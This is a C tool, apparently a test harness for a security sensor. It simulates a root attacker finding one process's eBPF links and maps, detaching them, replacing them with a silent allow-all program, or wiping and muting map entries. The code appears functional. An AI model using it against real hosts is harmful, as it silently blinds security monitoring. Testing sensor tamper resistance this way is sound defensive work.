// What a root attacker does to a sensor's programs and maps: tamper PID detach|replace|empty|zero|mute NAME. Only what the
// process PID holds is touched, found by its descriptors: other agents run on this machine.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static long bpf(int command, union bpf_attr *attribute) {
    return syscall(SYS_bpf, command, attribute, sizeof *attribute);
}

static int by_id(int command, unsigned id) {
    union bpf_attr attribute = {.map_id = id};
    return bpf(command, &attribute);
}

static int info(int descriptor, void *into, unsigned bytes) {
    memset(into, 0, bytes);
    union bpf_attr attribute = {.info = {.bpf_fd = descriptor, .info_len = bytes, .info = (unsigned long)into}};
    return bpf(BPF_OBJ_GET_INFO_BY_FD, &attribute);
}

// A program that lets everything pass and tells nobody.
static int harmless(unsigned attach_type) {
    static const struct bpf_insn code[] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 1},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attribute = {0};
    attribute.prog_type = BPF_PROG_TYPE_CGROUP_SOCK_ADDR;
    attribute.insns = (unsigned long)code;
    attribute.insn_cnt = 2;
    attribute.license = (unsigned long)"GPL";
    attribute.expected_attach_type = attach_type;
    return bpf(BPF_PROG_LOAD, &attribute);
}

static int on_link(unsigned id, const char *action, const char *name) {
    int link = by_id(BPF_LINK_GET_FD_BY_ID, id);
    struct bpf_link_info about;
    struct bpf_prog_info program;
    if (link < 0 || info(link, &about, sizeof about) != 0) return 0;
    int runs = by_id(BPF_PROG_GET_FD_BY_ID, about.prog_id);
    if (runs < 0 || info(runs, &program, sizeof program) != 0 || strcmp(program.name, name) != 0) return 0;
    union bpf_attr attribute = {0};
    long result;
    if (strcmp(action, "detach") == 0) {
        attribute.link_detach.link_fd = link;
        result = bpf(BPF_LINK_DETACH, &attribute);
    } else {
        attribute.link_update.link_fd = link;
        attribute.link_update.new_prog_fd = harmless(about.cgroup.attach_type);
        result = bpf(BPF_LINK_UPDATE, &attribute);
    }
    printf("%s %s: %s\n", action, name, result == 0 ? "done" : strerror(errno));
    return 1;
}

static int on_map(unsigned id, const char *action, const char *name) {
    int map = by_id(BPF_MAP_GET_FD_BY_ID, id);
    struct bpf_map_info about;
    if (map < 0 || info(map, &about, sizeof about) != 0 || strcmp(about.name, name) != 0) return 0;
    unsigned done = 0, refused = 0;
    // A value a CPU, where the map has them.
    void *value = calloc(1024, about.value_size + 8);
    if (strcmp(action, "mute") == 0) memset(value, 1, 1024 * (about.value_size + 8L));
    for (unsigned key = 0; key < about.max_entries; key++) {
        union bpf_attr attribute = {0};
        attribute.map_fd = map;
        attribute.key = (unsigned long)&key;
        int empties = strcmp(action, "empty") == 0;
        if (!empties) attribute.value = (unsigned long)value;
        long result = bpf(empties ? BPF_MAP_DELETE_ELEM : BPF_MAP_UPDATE_ELEM, &attribute);
        done += result == 0;
        refused += result != 0 && errno == EPERM;
    }
    printf("%s %s: %u done, %u refused\n", action, name, done, refused);
    return 1;
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    char path[512];
    snprintf(path, sizeof path, "/proc/%s/fdinfo", argv[1]);
    DIR *folder = opendir(path);
    int found = 0;
    for (struct dirent *entry; folder && (entry = readdir(folder)) && !found;) {
        snprintf(path, sizeof path, "/proc/%s/fdinfo/%s", argv[1], entry->d_name);
        FILE *file = fopen(path, "r");
        char line[256];
        unsigned id;
        while (file && !found && fgets(line, sizeof line, file)) {
            int is_link = strcmp(argv[2], "detach") == 0 || strcmp(argv[2], "replace") == 0;
            if (is_link && sscanf(line, "link_id: %u", &id) == 1) found = on_link(id, argv[2], argv[3]);
            if (!is_link && sscanf(line, "map_id: %u", &id) == 1) found = on_map(id, argv[2], argv[3]);
        }
        if (file) fclose(file);
    }
    return found ? 0 : 1;
}
